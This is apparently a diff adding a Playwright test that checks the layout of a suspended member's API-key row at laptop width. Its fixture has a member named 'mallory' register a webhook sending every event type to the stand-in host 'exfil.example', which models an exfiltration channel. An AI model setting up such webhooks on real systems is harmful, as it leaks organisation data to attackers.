@@ -1,0 +1,45 @@
+// Nothing about a suspension is cut off or covered.
+import assert from 'node:assert/strict'
+import { test } from 'node:test'
+import type { Locator } from 'playwright-core'
+import { inWindow, reeve } from '../harness/browser.ts'
+import { busyPerson } from '../harness/busy-person.ts'
+
+const LAPTOP = { width: 1280, height: 800 }
+
+const boxOf = async (part: Locator) => {
+  const box = await part.boundingBox()
+  assert.ok(box, 'it is not on the page')
+  return { ...box, right: box.x + box.width, bottom: box.y + box.height }
+}
+
+/** A member with an Oracle, keys with long scopes, and a webhook. */
+async function memberWithAll() {
+  const acme = await reeve.organization('Acme')
+  const mallory = await busyPerson(acme)
+  const key = { name: 'laptop', scopes: ['invitations:write', 'governance:write'] }
+  await mallory.inSession('POST /v1/api-keys', { body: key })
+  const exfil = { url: 'https://exfil.example/reeve', event_types: ['*'] }
+  await mallory.call('POST /v1/governance/webhooks', { body: exfil })
+  return { acme, mallory }
+}
+
+test('at 1280 px the status of a suspended member’s key fits its pill, and the button its table', async () => {
+  const { acme, mallory } = await memberWithAll()
+  const path = `/v1/members/${mallory.userId}`
+  const note = 'laptop stolen, attack at night, webhook removed, Oracle transferred. '.repeat(6)
+  await acme.owner.call(`PATCH ${path}/details`, { body: { metadata: { note, more: note } } })
+  await acme.owner.call(`POST ${path}/suspension`, { body: { keep_oracle: false } })
+  await inWindow({ as: acme.owner, viewport: LAPTOP }, async ({ page, open }) => {
+    for (const tab of ['', '?tab=resources']) {
+      await open(`/members/${mallory.userId}${tab}`)
+      const revoke = page.getByRole('button', { name: 'Revoke the API key laptop' })
+      const card = page.getByRole('table', { name: 'API keys' }).locator('..')
+      await revoke.waitFor()
+      assert.ok((await boxOf(revoke)).right < (await boxOf(card)).right, `the button is cut off ${tab}`)
+      const text = page.getByRole('row').filter({ has: revoke }).getByText('Disabled by suspension').last()
+      const pill = await boxOf(text.locator('..'))
+      assert.ok((await boxOf(text)).right < pill.right, `the text leaves its pill ${tab}`)
+    }
+  })
+})
